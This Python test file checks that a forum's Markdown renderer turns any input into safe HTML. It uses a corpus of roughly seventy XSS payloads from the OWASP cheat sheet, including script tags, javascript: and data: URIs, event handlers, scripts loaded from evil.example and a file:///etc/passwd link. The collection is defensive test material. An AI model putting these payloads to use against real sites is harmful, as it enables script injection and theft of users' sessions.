"""Markdown becomes safe HTML whatever is written; a corpus of known attacks."""

import re
from html.parser import HTMLParser

import pytest

from forum.core.markdown import plain, render

ALLOWED_TAGS = {"p", "br", "strong", "em", "s", "del", "code", "a", "pre", "blockquote", "ul", "ol", "li", "hr"} | {
    "h3",
    "h4",
    "h5",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}
ALLOWED_ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}, "th": {"align"}, "td": {"align"}}
SCHEMES = ("http://", "https://", "mailto:", "tel:")

# After the OWASP "XSS Filter Evasion Cheat Sheet" and known tricks of Markdown renderers.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<iframe src=https://evil.example/x.html <",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/s.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" AllowScriptAccess="always"></EMBED>',
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<details open ontoggle=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    '[x](//evil.example/"onmouseover=alert(1))',
    '[x](https://a.example/" onmouseover="alert(1))',
    "[x](https://a.example '\"onmouseover=alert(1) x=\"')",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x"onerror="alert(1)](x)',
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <svg onload=alert(1)> |",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E [x](%6A%61vascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '<a style="position:fixed;inset:0" href="https://evil.example">x</a>',
    "<input autofocus onfocus=alert(1)>",
    '<b id="location" name="cookie">x</b>',
]


class Inspector(HTMLParser):
    """Collects what a browser would make of the HTML and what is not allowed in it."""

    def __init__(self) -> None:
        super().__init__()
        self.offences: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.offences.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ALLOWED_ATTRIBUTES.get(tag, set()):
                self.offences.append(f"{tag} {name}")
            if name == "href" and not self.is_safe(value or ""):
                self.offences.append(f"href {value}")
        if tag == "a" and dict(attrs).get("rel") != "nofollow ugc noopener noreferrer":
            self.offences.append("rel")

    @staticmethod
    def is_safe(href: str) -> bool:
        """Judge as browsers do: leading controls and spaces, and tabs and line ends anywhere, do not count."""
        seen = re.sub(r"[\t\r\n]", "", href).lstrip("".join(map(chr, range(33))))
        has_scheme = re.match(r"^[a-zA-Z][a-zA-Z0-9+.-]*:", seen) is not None
        return seen.lower().startswith(SCHEMES) if has_scheme else True

    def handle_comment(self, data: str) -> None:
        self.offences.append("comment")


def offences(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.offences


def test_the_inspector_sees_what_it_is_to_find() -> None:
    bad = "<script>x</script><p onclick=x><a href=' javascript:x'>x</a><!-- c --><img src=x>"
    assert offences(bad) == ["<script>", "p onclick", "href  javascript:x", "rel", "comment", "<img>", "img src"]


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_hostile_survives(source: str) -> None:
    assert offences(render(source)) == []
    assert offences(render(f"Text davor\n\n{source}\n\nText danach")) == []


@pytest.mark.parametrize("source", HOSTILE)
def test_rendering_the_plain_text_of_an_attack_again_is_harmless(source: str) -> None:
    assert offences(render(plain(render(source)))) == []


def test_all_attacks_together_are_harmless() -> None:
    assert offences(render("\n\n".join(HOSTILE))) == []
    assert offences(render(" ".join(HOSTILE))) == []


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("**fett** *schräg* ~~weg~~", "<p><strong>fett</strong> <em>schräg</em> <s>weg</s></p>\n"),
        ("# Groß\n\n## Kleiner", "<h3>Groß</h3>\n<h4>Kleiner</h4>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("> Zitat", "<blockquote>\n<p>Zitat</p>\n</blockquote>\n"),
        ("Zeile\\\nZeile", "<p>Zeile<br>\nZeile</p>\n"),
        ("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>\n"),
        (
            "[Amt](https://amt.example/?a=1&b=2)",
            '<p><a href="https://amt.example/?a=1&amp;b=2" rel="nofollow ugc noopener noreferrer">Amt</a></p>\n',
        ),
        ("<b>kein HTML</b>", "<p>&lt;b&gt;kein HTML&lt;/b&gt;</p>\n"),
    ],
)
def test_what_is_meant_is_shown(source: str, html: str) -> None:
    assert render(source) == html


def test_plain_text_is_text_with_nothing_escaped() -> None:
    assert plain(render("**Müller & Söhne** sagt: 1 < 2\n\nAbsatz")) == "Müller & Söhne sagt: 1 < 2 Absatz"


@pytest.mark.parametrize(
    "source", ["[" * 5_000, "*" * 20_000, "> " * 5_000 + "x", "`" * 20_000, "- " * 9_000, "|" * 20_000]
)
def test_texts_made_to_be_slow_are_rendered(source: str) -> None:
    assert offences(render(source)) == []
